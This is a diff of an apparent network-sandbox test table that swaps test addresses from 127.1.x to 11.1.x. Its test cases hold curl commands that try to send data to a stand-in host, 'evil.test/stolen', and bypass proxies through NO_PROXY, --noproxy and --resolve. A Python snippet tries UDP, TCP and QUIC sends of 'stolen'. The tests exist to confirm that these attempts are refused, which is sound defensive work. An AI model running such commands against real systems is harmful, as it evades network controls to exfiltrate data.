@@ -132,8 +132,8 @@ c.wrap_socket(s)'`, `refused TLS for "" on a connection to web.test:%SECURE`},
 	{"NO_PROXY", `NO_PROXY='*' no_proxy='*' curl -sS http://evil.test:%PLAIN/stolen`, "[network: refused evil.test"},
 	{"the address of a host", `curl -sS --noproxy '*' --resolve evil.test:%PLAIN:127.0.0.1 http://evil.test:%PLAIN/stolen`,
 		"refused localhost:%PLAIN; setting network.allow"},
-	{"an address that no lookup gave", `curl -sS --noproxy '*' http://127.1.99.99:%PLAIN/stolen`,
-		"refused 127.1.99.99:%PLAIN, which is assigned to no name"},
+	{"an address that no lookup gave", `curl -sS --noproxy '*' http://11.1.99.99:%PLAIN/stolen`,
+		"refused 11.1.99.99:%PLAIN, which is assigned to no name"},
 	{"the address of another name", `a=$(/usr/bin/python3 -c 'import socket; print(socket.gethostbyname("web.test"))')
 curl -sS --noproxy '*' --resolve evil.test:%PLAIN:$a http://evil.test:%PLAIN/stolen`,
 		`refused a request for "evil.test:%PLAIN" on a connection to web.test:%PLAIN`},
@@ -214,12 +214,12 @@ def tried(what, f):
     try: print(what, "worked", f())
     except OSError as e: print(what, "failed", errno.errorcode.get(e.errno))
 udp = lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-print("names", socket.getaddrinfo("web.test", 1)[0][4][0].startswith("127.1."))
+print("names", socket.getaddrinfo("web.test", 1)[0][4][0].startswith("11.1."))
 for port in (53, 443, 123):
     tried("udp", lambda: udp().sendto(b"x" * 30, ("192.0.2.1", port)))
     tried("tcp", lambda: socket.create_connection(("192.0.2.1", port), 5))
     tried("six", lambda: socket.create_connection(("2001:db8::1", port), 5))
-for address in ("127.0.0.1", "127.1.0.1", "127.9.9.9"):
+for address in ("127.0.0.1", "11.1.0.1", "127.9.9.9", "11.9.9.9"):
     s = udp(); s.connect((address, %UDP))
     tried("quic", lambda: (s.send(b"stolen"), s.send(b"stolen")))
 tried("host", lambda: socket.create_connection(("127.0.0.1", %SIX), 5))
